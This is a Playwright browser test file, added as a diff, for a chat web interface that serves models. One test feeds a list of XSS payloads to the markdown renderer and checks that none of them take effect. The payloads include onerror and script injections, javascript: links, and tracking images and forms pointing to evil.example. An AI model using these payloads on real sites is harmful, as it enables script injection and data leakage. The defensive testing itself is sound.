@@ -1,0 +1,318 @@
+"""The web page in a real browser: chat, images, hostile answers, the live view while a worker dies, keys, and people
+who use a keyboard, a screen reader or a small screen."""
+
+import base64
+import json
+import re
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+from axe_playwright_python.sync_playwright import Axe
+from playwright.sync_api import Browser, Page, expect
+
+from tests.browser.page import WebPage, web_page
+from tests.support.fleet import Fleet
+from tests.support.pictures import easy_question, png
+
+LONG = "[[tokens 4000]]"
+
+
+@pytest.fixture
+def page(browser: Browser, shown: Fleet) -> Iterator[WebPage]:
+    with web_page(browser, shown) as opened:
+        opened.open()
+        opened.choose("sim")
+        yield opened
+
+
+def test_an_answer_streams_as_markdown(page: WebPage) -> None:
+    words = " ".join(["tree"] * 50)
+    answer = page.ask(f"[[say # Title\n\n{words}\n\n* **bold** `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n]]")
+    expect(answer.get_by_role("heading", name="Title")).to_be_visible()
+    expect(page.tab.get_by_role("button", name="Stop")).to_be_visible()
+    expect(answer.get_by_role("cell", name="2")).to_be_visible()
+    expect(answer.locator("li strong")).to_have_text("bold")
+    expect(
+        answer.get_by_text(re.compile(r"sim · first token \d.* · \d+\.\d tokens/s · \d+ \+ \d+ tokens"))
+    ).to_be_visible()
+    expect(page.tab.get_by_role("button", name="Send")).to_be_visible()
+
+
+def test_stop_frees_the_slot(page: WebPage) -> None:
+    expect(page.tab.get_by_text("0 of 8 slots in use")).to_be_visible()
+    answer = page.ask(LONG)
+    expect(page.tab.get_by_text("1 of 8 slots in use")).to_be_visible()
+    page.tab.get_by_role("button", name="Stop").click()
+    expect(answer.get_by_text(re.compile(r"stopped, slot freed after \d"))).to_be_visible()
+    expect(page.tab.get_by_text("0 of 8 slots in use")).to_be_visible()
+
+
+def test_a_waiting_request_shows_its_place(page: WebPage, browser: Browser, shown: Fleet) -> None:
+    page.choose("narrow")
+    page.ask(LONG)
+    expect(page.tab.get_by_text("1 of 1 slots in use")).to_be_visible()
+    with web_page(browser, shown) as second:
+        second.open()
+        second.choose("narrow")
+        answer = second.ask("[[tokens 3]]")
+        expect(answer.get_by_role("status")).to_have_text(re.compile("next in the queue"))
+        page.tab.get_by_role("button", name="Stop").click()
+        expect(answer.get_by_text("first token")).to_be_visible()
+
+
+def test_settings_reach_the_service_and_reasoning_is_folded(page: WebPage) -> None:
+    tab = page.tab
+    tab.get_by_text("Settings").click()
+    for label, value in (("System prompt", "Be brief."), ("Temperature", "0.5"), ("Max tokens", "60"), ("Seed", "7")):
+        tab.get_by_label(label).fill(value)
+    tab.get_by_label("JSON schema").fill('{"type": "object"')
+    tab.get_by_label("Reasoning effort").select_option("low")
+    tab.get_by_label("Message", exact=True).fill("hello")
+    tab.get_by_role("button", name="Send").click()
+    expect(tab.get_by_role("alert")).to_contain_text("The JSON schema")
+    expect(tab.get_by_label("Message", exact=True)).to_have_value("hello")
+    tab.get_by_label("JSON schema").fill('{"type": "object"}')
+    tab.get_by_text("Settings").click()
+    answer = page.ask('[[say <think>Two and two.</think>{"a": 4}]]')
+    expect(answer.get_by_text('{"a": 4}')).to_be_visible()
+    expect(answer.get_by_text("Two and two.")).to_be_hidden()
+    answer.get_by_text("Reasoning", exact=True).click()
+    expect(answer.get_by_text("Two and two.")).to_be_visible()
+    sent: list[dict[str, Any]] = [one.post_data_json or {} for one in page.requests if one.method == "POST"]
+    assert len(sent) == 1
+    assert sent[0]["messages"][0] == {"role": "system", "content": "Be brief."}
+    assert (sent[0]["temperature"], sent[0]["max_completion_tokens"], sent[0]["seed"]) == (0.5, 60, 7)
+    assert sent[0]["response_format"]["json_schema"]["schema"] == {"type": "object"}
+    answer.get_by_role("button", name="Copy as curl").click()
+    command = tab.get_by_role("textbox", name="Request").input_value()
+    assert command.startswith(f"curl -N '{page.base}v1/chat/completions'")
+    assert json.loads(command.partition("-d '")[2].removesuffix("'")) == sent[0]
+    tab.get_by_role("button", name="Close").click()
+    answer.get_by_role("button", name="Copy as Python").click()
+    program = tab.get_by_role("textbox", name="Request").input_value()
+    compile(program, "snippet", "exec")
+    assert "temperature=0.5" in program
+
+
+def test_tool_calls_are_shown(page: WebPage) -> None:
+    page.tab.get_by_text("Settings").click()
+    page.tab.get_by_label("Tools").fill('[{"type": "function", "function": {"name": "weather", "parameters": {}}}]')
+    page.tab.get_by_text("Settings").click()
+    call = '<tool_call>{"name": "weather", "arguments": {"city": "Oslo"}}</tool_call>'
+    answer = page.ask(f"[[say {call}]]")
+    expect(answer.get_by_text("weather", exact=True)).to_be_visible()
+    expect(answer.get_by_text("Oslo")).to_be_visible()
+
+
+KEPT = """() => new Promise((resolve) => {
+    const asked = indexedDB.open("vinoqueue");
+    asked.onsuccess = () => {
+        const read = asked.result.transaction("conversations").objectStore("conversations").getAll();
+        read.onsuccess = () => resolve(JSON.stringify(read.result));
+    };
+})"""
+
+
+def test_branches_and_conversations_survive_a_reload(page: WebPage, shown: Fleet) -> None:
+    tab = page.tab
+    answer = page.ask("[[say first answer]]")
+    expect(answer.get_by_text("first answer")).to_be_visible()
+    answer.get_by_role("button", name="Retry").click()
+    expect(tab.get_by_label("Branch 2 of 2")).to_be_visible()
+    expect(answer.get_by_text("first answer")).to_be_visible()
+    tab.get_by_role("button", name="Edit").click()
+    tab.get_by_label("Edit the message").fill("[[say second answer]]")
+    tab.get_by_role("button", name="Send as a new branch").click()
+    expect(answer.get_by_text("second answer")).to_be_visible()
+    tab.get_by_role("button", name="New conversation").click()
+    expect(tab.get_by_text("Messages stay in this browser.")).to_be_visible()
+    page.ask("[[say other talk]]")
+    tab.get_by_role("button", name="[[say first answer]]", exact=True).click()
+    expect(answer.get_by_text("second answer")).to_be_visible()
+    shown.until(
+        lambda: all(f'"text":"{text}"' in tab.evaluate(KEPT) for text in ("second answer", "other talk")),
+        "the conversations to be kept",
+    )
+    tab.reload()
+    tab.get_by_role("button", name="[[say first answer]]", exact=True).click()
+    expect(answer.get_by_text("second answer")).to_be_visible()
+    tab.get_by_role("button", name="Previous branch").click()
+    expect(answer.get_by_text("first answer")).to_be_visible()
+
+
+DROP = """([name, base64]) => {
+    const bytes = Uint8Array.from(atob(base64), (sign) => sign.charCodeAt(0));
+    const data = new DataTransfer();
+    data.items.add(new File([bytes], "picture.png", { type: "image/png" }));
+    const box = document.querySelector(".composer textarea");
+    box.dispatchEvent(name === "paste"
+        ? new ClipboardEvent("paste", { clipboardData: data, bubbles: true, cancelable: true })
+        : new DragEvent("drop", { dataTransfer: data, bubbles: true, cancelable: true }));
+}"""
+
+
+@pytest.mark.parametrize(("way", "seed"), [("button", 2000), ("paste", 2001), ("drop", 2002)])
+def test_the_model_sees_an_image(page: WebPage, way: str, seed: int) -> None:
+    drawn, asked = easy_question(seed)
+    file = png(drawn.pixels(224, 224))
+    tab = page.tab
+    expect(tab.get_by_role("button", name="Add image")).to_be_hidden()
+    page.choose("shapes")
+    tab.get_by_text("Settings").click()
+    tab.get_by_label("Temperature").fill("0")
+    tab.get_by_text("Settings").click()
+    if way == "button":
+        tab.get_by_label("Images").set_input_files({"name": "picture.png", "mimeType": "image/png", "buffer": file})
+    else:
+        tab.evaluate(DROP, [way, base64.b64encode(file).decode()])
+    expect(tab.get_by_alt_text("Image 1 to send")).to_be_visible()
+    answer = page.ask(asked.text)
+    expect(answer.locator(".markdown")).to_have_text(asked.answer)
+    expect(tab.get_by_alt_text("Image 1", exact=True)).to_be_visible()
+
+
+HOSTILE = (
+    '<img src=x onerror="document.title=`owned`"><script>document.title=`owned`</script>',
+    '<svg onload="document.title=`owned`"><style>@import "http://evil.example/s.css";</style></svg>',
+    "[click](javascript:document.title='owned') <javascript:alert(1)> [data](data:text/html,<script>1</script>)",
+    "![track](http://evil.example/pixel.png?leak) ![ref][r]\n\n[r]: //evil.example/other.png",
+    "![own](/metrics?image) [own](/v1/fleet) ![svg](data:image/svg+xml;base64,PHN2Zy8+)",
+    '<iframe src="http://evil.example/"></iframe><link rel=stylesheet href=http://evil.example/c.css>',
+    '<form action="http://evil.example/"><input name=q><button>Send</button></form><base href="http://evil.example/">',
+    '<a href="http://evil.example" id="page" style="position:fixed;inset:0" class="stop">x</a>',
+    "> " * 600 + "deep",
+    "- " * 600 + "deep",
+    "[" * 3000 + "x" + "](y)" * 3000,
+    "**a" * 3000,
+    "| a |\n|---|\n| <img src=http://evil.example/t.png onerror=alert(1)> `<b>` |",
+    "```html\n<img src=http://evil.example/c.png>\n```",
+    "$${\\href{javascript:alert(1)}{x}}$$ <math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+)
+
+
+def test_hostile_answers_do_nothing(page: WebPage) -> None:
+    tab = page.tab
+    tab.evaluate(
+        "window.violations = [];"
+        "addEventListener('securitypolicyviolation', (event) => violations.push(event.blockedURI))"
+    )
+    elements = {
+        tag
+        for text in HOSTILE
+        for tag in tab.evaluate(
+            """async (text) => {
+                const { rendered } = await import("./web/markdown.js");
+                const box = document.createElement("div");
+                document.body.append(box);
+                for (let end = 1; end < text.length; end += Math.ceil(text.length / 20)) {
+                    box.replaceChildren(rendered(text.slice(0, end)));
+                }
+                box.replaceChildren(rendered(text));
+                const found = [...box.querySelectorAll("*")];
+                const names = ({ attributes }) => [...attributes].map(({ name }) => "." + name).join("");
+                const tags = found.map((one) => one.localName + names(one));
+                const links = found.flatMap((one) => [one.getAttribute("href"), one.getAttribute("src")]);
+                box.remove();
+                return [...tags, ...links.filter((one) => one !== null)];
+            }""",
+            text,
+        )
+    }
+    assert {"p", "code", "td"} <= elements
+    assert not [
+        one for one in elements if re.search(r"(?i)^(img|script|style|svg|iframe|form|input|link|base|math)\b", one)
+    ]
+    assert not [one for one in elements if re.search(r"(?i)javascript:|^data:|^/|\.on|\.style|\.id|\.class", one)]
+    # The same, streamed by a model.
+    said = "\n\n".join(text for text in HOSTILE if "]]" not in text and len(text) < 300)
+    answer = page.ask(f"[[say {said}]]")
+    expect(answer.get_by_text("first token")).to_be_visible()
+    assert tab.title() == "Vinoqueue"
+    assert tab.evaluate("window.violations") == []
+
+
+def test_the_live_view_shows_where_requests_go_when_a_worker_dies(
+    page: WebPage, browser: Browser, shown: Fleet
+) -> None:
+    with web_page(browser, shown) as live:
+        live.open("live")
+        card = live.tab.get_by_role("region", name="sim", exact=True)
+        expect(card.get_by_role("row", name=re.compile("default"))).to_be_visible()
+        answer = page.ask("[[tokens 300]]")
+        job = live.tab.locator(".jobs code")
+        expect(job).to_have_count(1)
+        row = live.tab.locator(".workers tbody tr", has=job)
+        victim, request = row.get_by_role("rowheader").inner_text(), job.inner_text()
+        pid = next(one["pid"] for one in shown.workers() if one["id"] == victim)
+        next(process for process in shown.processes if process.popen.pid == pid).kill()
+        troubled = live.tab.locator(".workers tr.troubled", has_text=victim)
+        expect(troubled).to_contain_text(re.compile("silent|gone"))
+        expect(live.tab.get_by_role("status")).to_contain_text(f"Worker {victim} is")
+        moved = live.tab.locator(".moves li", has_text=f"{request} left {victim}").filter(has_text="goes on at")
+        expect(moved).to_contain_text("because the worker is gone")
+        # The stream goes on.
+        expect(answer.get_by_text("tokens/s")).to_be_visible()
+        expect(answer.get_by_text("+ 300 tokens")).to_be_visible()
+        assert live.tab.locator(".chart canvas").count() == 3
+        assert sum("fleet/events" in one.url for one in live.requests) == 1
+
+
+def serious(tab: Page, *rules: str) -> list[str]:
+    """What axe finds, by all rules or some."""
+    options: dict[str, Any] = {"resultTypes": ["violations"], **({"runOnly": [*rules]} if rules else {})}
+    return [
+        f"{one['id']}: {node['html']}"
+        for one in Axe().run(tab, options=options).response["violations"]
+        if one["impact"] in ("serious", "critical")
+        for node in one["nodes"]
+    ]
+
+
+def test_axe_finds_nothing_serious_on_a_small_screen_in_either_theme(browser: Browser, shown: Fleet) -> None:
+    with web_page(browser, shown, width=360, height=740) as page:
+        tab = page.tab
+        page.open()
+        page.choose("sim")
+        answer = page.ask("[[say # Title\n\ntext `code` [link](http://example.org)\n\n```\n" + "long " * 60 + "\n```]]")
+        expect(answer.get_by_text("tokens/s")).to_be_visible()
+        tab.get_by_text("Settings").click()
+        for view, place in (("Chat", ".composer"), ("Live", ".chart canvas")):
+            tab.get_by_role("link", name=view).click()
+            expect(tab.locator(place).first).to_be_visible()
+            tab.get_by_label("Colours").select_option("light")
+            light = tab.evaluate("getComputedStyle(document.body).backgroundColor")
+            assert serious(tab) == []
+            tab.get_by_label("Colours").select_option("dark")
+            assert tab.evaluate("getComputedStyle(document.body).backgroundColor") != light
+            assert serious(tab, "color-contrast") == []
+            assert tab.evaluate("document.documentElement.scrollWidth") <= 360
+    with web_page(browser, shown, dark=True) as page:
+        page.open()
+        assert page.tab.evaluate("getComputedStyle(document.body).backgroundColor") != light
+
+
+def test_keys(browser: Browser, shown: Fleet) -> None:
+    """The last test: from its first key on, the service needs one."""
+    plain, admin = shown.key("create"), shown.key("create", "--scope", "admin")
+    shown.until(lambda: shown.status("/v1/models") == 401, "the API to need a key")
+    with web_page(browser, shown) as page:
+        page.open()
+        expect(page.tab.get_by_role("alert")).to_contain_text("needs an API key")
+        page.errors.clear()  # the browser logs each 401 and 403
+        field = page.tab.get_by_label("API key")
+        field.fill(plain)
+        field.press("Enter")
+        page.choose("sim")
+        expect(page.ask("[[say hello]]").get_by_text("hello")).to_be_visible()
+        page.tab.get_by_role("link", name="Live").click()
+        expect(page.tab.get_by_role("alert")).to_contain_text("Missing scopes: admin")
+        page.errors.clear()
+        field.fill(admin)
+        field.press("Enter")
+        expect(page.tab.locator(".workers tbody tr").first).to_be_visible()
+        assert page.tab.evaluate("sessionStorage.getItem('vinoqueue.key')") == admin
+        assert admin not in page.tab.evaluate("JSON.stringify({...localStorage})")
+        assert not [one.url for one in page.requests if admin in one.url or plain in one.url]
+        page.tab.reload()
+        expect(page.tab.locator(".workers tbody tr").first).to_be_visible()
